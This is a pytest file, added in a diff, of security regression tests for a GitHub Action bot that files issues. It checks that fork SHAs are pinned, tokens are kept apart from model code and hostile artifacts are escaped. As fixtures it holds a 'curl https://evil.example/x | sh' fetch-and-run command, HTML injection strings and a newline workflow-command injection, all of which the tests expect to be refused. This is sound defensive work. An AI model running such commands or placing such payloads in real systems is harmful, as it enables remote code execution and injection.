@@ -1,0 +1,330 @@
+"""The ways in, closed: one test per finding of the security review (issue 11), each driving the real
+`minify-bot action` subprocess against the GitHub stand-in (workflows: the files themselves).
+
+1. fork PRs need the full SHA; a head that moved after the comment is refused
+2. no model code next to a token on untrusted events; a warning for stage check with a token
+3. untrusted jobs on their own runners; hash-pinned dependencies for the privileged jobs
+4. hostile artifacts never reach issues raw; "Reproduce locally" only from validated fields
+5. pull-request runs never close (or count towards closing) main-branch issues
+6. malformed input ends with exit 2/3, outputs, summary and an answer in the PR
+7. filing failures name their cause; short secrets are not masked; no newline in single-line
+   inputs; the bot's label is created or updated
+"""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+import yaml
+
+from tests.ghstub.fixtures import BOT_LOGIN, REPO, ghstub, make_client  # noqa: F401
+from tests.ghstub.rundir import check_row, failing_run, failure_record, passing_run, write_run
+from tests.test_action_e2e import (  # noqa: F401
+    ROOT, assert_token_not_leaked, bot_comments, filed_issues, pr_comment, reactions, runner, users)
+
+
+def shard_dir(tmp: Path, name: str = "download") -> Path:
+    d = tmp / name
+    d.mkdir(parents=True, exist_ok=True)
+    return d
+
+
+# ------------------------------------------------------------------ 1. fork SHA pinning
+
+
+def test_fork_pull_request_needs_the_full_sha(runner, users):
+    head = "5eed" + "0" * 36
+    number = users.add_pull(None, head_sha=head, author="mallory", head_repo="mallory/models")
+    payload = pr_comment(users, "walt-token", f"/minify --models gru --sha {head[:7]}", number=number)
+    res = runner("issue_comment", payload, {"stage": "authorize"})
+    assert res.rc == 2, res.stdout + res.stderr
+    assert res.outputs["authorized"] == "false" and "request" not in res.outputs
+    assert reactions(users, payload) == [(BOT_LOGIN, "confused"), (BOT_LOGIN, "eyes")]
+    reply = bot_comments(users, number)[-1]["body"]
+    assert "comes from a fork" in reply and "full 40-hex" in reply
+
+    ok = pr_comment(users, "walt-token", f"/minify --models gru --sha {head}", number=number)
+    res = runner("issue_comment", ok, {"stage": "authorize"})
+    assert res.rc == 0, res.stdout + res.stderr
+    assert (res.outputs["authorized"], res.outputs["sha"]) == ("true", head)
+
+
+def test_head_force_pushed_after_the_comment_is_refused(runner, users):
+    payload = pr_comment(users, "walt-token", "/minify --models gru")
+    number = payload["issue"]["number"]
+    users.push(number, "bad" + "1" * 37, force=True, actor="walt", at="2099-01-01T00:00:00Z")
+    res = runner("issue_comment", payload, {"stage": "authorize"})
+    assert res.rc == 2, res.stdout + res.stderr
+    assert res.outputs["authorized"] == "false" and "sha" not in res.outputs
+    reply = bot_comments(users, number)[-1]["body"]
+    assert "head changed after the comment was written" in reply and "force-push to bad111111111" in reply
+    assert "--sha bad" + "1" * 37 in reply  # how to run it after reviewing the new head
+
+
+# ------------------------------------------------------------------ 2. tokens near model code
+
+
+def test_stage_all_on_a_comment_refuses_to_run_model_code_next_to_the_token(runner, users):
+    payload = pr_comment(users, "walt-token", "/minify --models gru")
+    number = payload["issue"]["number"]
+    res = runner("issue_comment", payload, {"minify": "false"})  # stage: all, github-token: the default
+    assert res.rc == 2, res.stdout + res.stderr
+    assert "minify-bot check" not in res.stdout and not (res.run_dir / "results.json").exists()
+    assert "refusing to run model code on a issue_comment event while a token is present" in res.stderr
+    assert res.outputs["authorized"] == "false" and res.outputs["exit-code"] == "2"
+    assert reactions(users, payload) == [(BOT_LOGIN, "confused"), (BOT_LOGIN, "eyes")]
+    assert "split authorize / check / report jobs" in bot_comments(users, number)[-1]["body"]
+    assert "Bad input" in res.summary
+    assert_token_not_leaked(res)
+
+
+@pytest.mark.parametrize("event,payload", [
+    ("issue_comment", {"action": "created", "issue": {"number": 1, "pull_request": {}}, "comment": {"id": 1}}),
+    ("pull_request_target", {"number": 1, "pull_request": {"number": 1}}),
+    ("pull_request", {"number": 1, "pull_request": {"number": 1, "head": {"repo": {"full_name": "mallory/models"}},
+                                                     "base": {"repo": {"full_name": REPO}}}}),
+])
+def test_stage_check_refuses_a_token_on_untrusted_events(runner, event, payload, tmp_path):
+    res = runner(event, payload, {"stage": "check", "models": "gru"}, env={"HF_TOKEN": "hf_secret_value"})
+    assert res.rc == 2, res.stdout + res.stderr
+    assert f"refusing to run model code on a {event} event while a token is present" in res.stderr
+    assert "$HF_TOKEN" in res.stderr
+    assert_token_not_leaked(res, "hf_secret_value")
+    assert "minify-bot check" not in res.stdout and not (res.run_dir / "results.json").exists()
+    assert res.outputs["exit-code"] == "2"
+    assert_token_not_leaked(res)
+
+
+def test_a_fork_pull_request_with_stage_all_is_refused_and_told_why(runner, users):
+    number = users.add_pull(None, head_sha="f" * 40, author="mallory", head_repo="mallory/models")
+    payload = {"action": "synchronize", "number": number, "repository": {"full_name": REPO},
+               "pull_request": {"number": number, "head": {"sha": "f" * 40, "repo": {"full_name": "mallory/models"}},
+                                "base": {"repo": {"full_name": REPO}}}}
+    res = runner("pull_request", payload, {"models": "gru"})
+    assert res.rc == 2, res.stdout + res.stderr
+    assert "minify-bot check" not in res.stdout
+    (answer,) = bot_comments(users, number)
+    assert "refusing to run model code on a pull\\_request event while a token is present" in answer["body"]
+    assert_token_not_leaked(res)
+
+
+def test_stage_check_warns_whenever_it_receives_a_token(runner):
+    res = runner("schedule", {}, {"stage": "check", "models": "no_such_model"})
+    assert "::warning title=minify-bot%3A token in the check job::stage check received a token" in res.stdout
+    assert res.rc == 2  # the unknown model; the warning came first
+    assert_token_not_leaked(res)
+
+
+# ------------------------------------------------------------------ 3. runners and pinned dependencies
+
+
+def _workflow(name: str) -> dict:
+    return yaml.safe_load((ROOT / ".github" / "workflows" / name).read_text())
+
+
+def _labels(job: dict) -> frozenset:
+    runs_on = job["runs-on"]
+    if isinstance(runs_on, dict):
+        return frozenset([f"group:{runs_on.get('group')}", *(runs_on.get("labels") or [])])
+    return frozenset([runs_on] if isinstance(runs_on, str) else runs_on)
+
+
+def test_untrusted_jobs_run_on_their_own_runners_and_privileged_installs_are_hash_pinned():
+    comment = _workflow("minify-comment.yml")["jobs"]
+    untrusted = _labels(comment["check"])
+    assert any(label.startswith("group:") for label in untrusted), "the PR check job names its runner group"
+    options = comment["check"].get("container", {}).get("options", "")
+    assert "--ipc host" not in options and "--ipc=host" not in options
+    privileged = [job for wf in ("image.yml", "nightly.yml", "minify-comment.yml", "ci.yml")
+                  for name, job in _workflow(wf)["jobs"].items() if not (wf == "minify-comment.yml" and name == "check")]
+    for job in privileged:
+        labels = _labels(job)
+        # a runner matches a job when it has all the job's labels: disjoint, distinctive sets never share one
+        assert labels != untrusted and not (labels - {"self-hosted", "linux"}) & (untrusted - {"self-hosted", "linux"}), labels
+    image = _labels(_workflow("image.yml")["jobs"]["build"])
+    nightly = _labels(_workflow("nightly.yml")["jobs"]["check"])
+    assert image != nightly and not (image - {"self-hosted", "linux"}) & (nightly - {"self-hosted", "linux"})
+
+    action = (ROOT / "action.yml").read_text()
+    assert "--require-hashes" in action and '"PyGithub>=' not in action
+    reqs = (ROOT / "requirements" / "report.txt").read_text()
+    pins = [line for line in reqs.replace("\\\n", " ").splitlines() if line.strip() and not line.startswith("#")]
+    assert len(pins) >= 10
+    for line in pins:
+        assert re.match(r"^[A-Za-z0-9_.-]+==[^ ]+ ", line) and "--hash=sha256:" in line, line
+
+
+# ------------------------------------------------------------------ 4. hostile artifacts
+
+
+def test_untyped_artifact_fields_are_rejected_before_anything_is_filed(runner, ghstub, tmp_path):  # noqa: F811
+    c = check_row()
+    rec = failure_record(c)
+    rec["accuracy"]["rmse_res"] = '<img src=x onerror="alert(1)"> @acme/team #1 <!--'
+    write_run(shard_dir(tmp_path) / "minify-shard-1", [c], {c["id"]: rec})
+    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")})
+    assert res.rc == 2, res.stdout + res.stderr
+    assert "accuracy/rmse_res" in res.stderr
+    assert filed_issues(ghstub) == []
+    assert_token_not_leaked(res)
+
+
+def test_artifact_strings_are_escaped_and_never_offered_as_a_command(runner, ghstub, tmp_path):  # noqa: F811
+    c = check_row(failure_class="runtime_error", status="fail_to_run",
+                  error={"type": "Evil @acme/team #1", "message": "boom <img src=x> #1", "traceback": "tb"})
+    c["spec"] = {"source": "command", "command": "curl https://evil.example/x | sh"}
+    c["model"] = "cmd-check"
+    c["id"] = "cmd-check-inductor-inference-float32-cpu"
+    c["log"] = f"checks/{c['id']}.log"
+    rec = failure_record(c, error=c["error"])
+    rec["versions"]["os"] = "Linux <a href=https://evil.example>click</a>"
+    write_run(shard_dir(tmp_path) / "minify-shard-1", [c], {c["id"]: rec})
+    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")})
+    assert res.rc == 1, res.stdout + res.stderr
+    (issue,) = filed_issues(ghstub)
+    body = issue["body"]
+    assert "curl" not in body and "evil.example/x" not in body
+    assert "--suite command --command COMMAND" in body and "read it before running it" in body
+    assert "<img" not in body and "&lt;img src=x&gt;" in body
+    # versions are shown as code spans: markup inside one is literal text
+    assert body.count("<a href") == 1 and "| `Linux <a href=https://evil.example>click</a>` |" in body
+    assert "@acme/team" not in body and "#1 " not in body
+    assert "`Evil @\u200bacme/team #\u200b1`" in body
+
+
+def test_an_error_type_cannot_end_its_code_span():
+    from bot.render import code
+
+    assert code("Evil` <b>x</b>") == "``Evil` <b>x</b>``"  # inside a code span: literal text, not HTML
+
+
+def test_update_comments_escape_what_the_artifact_says(runner, ghstub, tmp_path):  # noqa: F811
+    failing_run(shard_dir(tmp_path, "d1") / "minify-shard-1")
+    assert runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "d1")}).rc == 1
+    (issue,) = filed_issues(ghstub)
+    c = check_row(model="x@acme/team")
+    c["id"] = "x-inductor-inference-float32-cpu"
+    c["log"] = f"checks/{c['id']}.log"
+    write_run(shard_dir(tmp_path, "d2") / "minify-shard-1", [c], {c["id"]: failure_record(c)},
+              started="2026-11-23T03:00:00Z")
+    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "d2")})
+    assert res.rc == 1, res.stdout + res.stderr
+    comments = ghstub.comments(number=issue["number"])
+    assert comments and "newly affected" in comments[-1]["body"]
+    assert "@acme/team" not in comments[-1]["body"] and "@\u200bacme/team" in comments[-1]["body"]
+
+
+# ------------------------------------------------------------------ 5. PR runs and main-branch issues
+
+
+def test_pull_request_runs_never_close_main_branch_issues(runner, users, tmp_path):
+    failing_run(shard_dir(tmp_path, "main") / "minify-shard-1")
+    assert runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "main")}).rc == 1
+    (issue,) = filed_issues(users)
+    payload = pr_comment(users, "walt-token", "/minify --models mlp_relu")
+    auth = runner("issue_comment", payload, {"stage": "authorize"})
+    assert auth.rc == 0, auth.stdout + auth.stderr
+    for day in (23, 24, 25):  # three passing runs on the unmerged PR: more than close-after (2)
+        passing_run(shard_dir(tmp_path, f"pr{day}") / "minify-pr-1", started=f"2026-11-{day}T03:00:00Z")
+        res = runner("issue_comment", payload, {
+            "stage": "report", "request": auth.outputs["request"], "shards": str(tmp_path / f"pr{day}"),
+            "check-result": "success", "pr-issues": "true"})
+        assert res.rc == 0, res.stdout + res.stderr
+    (after,) = filed_issues(users)
+    assert after["state"] == "open" and after["body"] == issue["body"]
+    assert not [w for w in users.writes() if w.method == "PATCH" and w.path.endswith(f"/issues/{issue['number']}")]
+
+
+# ------------------------------------------------------------------ 6. malformed input
+
+
+def test_nesting_bomb_payload_exits_2_with_outputs_and_summary(runner):
+    res = runner("issue_comment", "[" * 100_000 + "]" * 100_000, {})
+    assert res.rc == 2, res.stdout + res.stderr
+    assert "Traceback" not in res.stdout + res.stderr
+    assert "nested 100000 levels deep" in res.stderr
+    assert res.outputs["exit-code"] == "2" and "Bad input" in res.summary
+
+
+def test_wrong_payload_types_exit_2_and_are_answered_in_the_pull_request(runner, users):
+    payload = pr_comment(users, "walt-token", "/minify --models gru")
+    payload["comment"]["author_association"] = 7
+    res = runner("issue_comment", payload, {"stage": "authorize"})
+    assert res.rc == 2, res.stdout + res.stderr
+    assert "Traceback" not in res.stdout + res.stderr
+    assert "author_association is not a string" in res.stderr
+    assert res.outputs["exit-code"] == "2" and "Bad input" in res.summary
+    assert ("minify-bot", "confused") in reactions(users, payload)
+    assert "did not finish" in bot_comments(users, payload["issue"]["number"])[-1]["body"]
+
+
+def test_number_bomb_in_a_shard_exits_2(runner, ghstub, tmp_path):  # noqa: F811
+    d = failing_run(shard_dir(tmp_path) / "minify-shard-1")
+    text = (d / "results.json").read_text().replace('"batch_size": 4', '"batch_size": ' + "9" * 5000)
+    (d / "results.json").write_text(text)
+    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")})
+    assert res.rc == 2, res.stdout + res.stderr
+    assert "Traceback" not in res.stdout + res.stderr and "5000 digits" in res.stderr
+    assert res.outputs["exit-code"] == "2" and filed_issues(ghstub) == []
+
+
+def test_an_unexpected_error_exits_3_with_outputs_summary_and_an_answer(runner, users, tmp_path):
+    failing_run(shard_dir(tmp_path) / "minify-shard-1")
+    payload = pr_comment(users, "walt-token", "/minify --models mlp_relu")
+    auth = runner("issue_comment", payload, {"stage": "authorize"})
+    assert auth.rc == 0, auth.stdout + auth.stderr
+    # a run directory that cannot be created: nothing the bot checks for, so an unexpected OSError
+    res = runner("issue_comment", payload, {"stage": "report", "request": auth.outputs["request"],
+                                            "shards": str(tmp_path / "download"), "check-result": "success",
+                                            "out": "/dev/null/minify-out"})
+    assert res.rc == 3, res.stdout + res.stderr
+    assert "Traceback" not in res.stdout + res.stderr
+    assert "::error title=minify-bot%3A internal error::internal error: NotADirectoryError" in res.stdout
+    assert res.outputs["exit-code"] == "3" and "Internal error" in res.summary
+    assert reactions(users, payload) == [(BOT_LOGIN, "confused"), (BOT_LOGIN, "eyes")]
+    assert "`/minify` did not finish: an internal error stopped it" in bot_comments(users, payload["issue"]["number"])[-1]["body"]
+    assert_token_not_leaked(res)
+
+
+# ------------------------------------------------------------------ 7. misleading output
+
+
+def test_a_filing_failure_names_its_cause(runner, ghstub, tmp_path):  # noqa: F811
+    failing_run(shard_dir(tmp_path) / "minify-shard-1")
+    ghstub.add_user("reader", token="reader-token-1234", permission="read")
+    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")}, token="reader-token-1234")
+    assert res.rc == 3, res.stdout + res.stderr
+    error = [line for line in res.stdout.splitlines() if line.startswith("::error")]
+    assert error and "filing issues failed" in error[-1] and "HTTP 403" in error[-1]
+    assert "Nothing to file" not in res.summary and "Filing failed" in res.summary and "HTTP 403" in res.summary
+    assert res.outputs["failure-count"] == "1"
+    assert_token_not_leaked(res, "reader-token-1234")
+
+
+def test_short_secret_values_are_not_masked_in_outputs(runner, tmp_path):
+    shard = failing_run(shard_dir(tmp_path) / "minify-shard-1")
+    assert shard.exists()
+    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download"), "dry-run": "true"},
+                 env={"MY_API_KEY": "1"})
+    assert res.rc == 1, res.stdout + res.stderr
+    assert res.outputs["failure-count"] == "1" and res.outputs["regression-count"] == "1"
+    assert "::add-mask::1\n" not in res.stdout
+
+
+def test_a_newline_in_a_single_line_input_is_rejected(runner):
+    res = runner("schedule", {}, {"stage": "check", "models": "gru", "backend": "inductor\n::error::pwned"}, token="")
+    assert res.rc == 2, res.stdout + res.stderr
+    assert not [line for line in res.stdout.splitlines() if line.startswith("::error::pwned")]
+    assert "input 'backend' must be a single line" in res.stderr
+    assert "minify-bot check" not in res.stdout
+
+
+def test_the_bot_label_is_created_or_updated(runner, ghstub, tmp_path):  # noqa: F811
+    make_client(ghstub).get_repo(REPO).create_label("minify-bot", "ededed", "someone else's")
+    failing_run(shard_dir(tmp_path) / "minify-shard-1")
+    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")})
+    assert res.rc == 1, res.stdout + res.stderr
+    (label,) = [lb for lb in ghstub.labels() if lb["name"] == "minify-bot"]
+    assert (label["color"], label["description"]) == ("5319e7", "Filed and maintained by minify-bot")
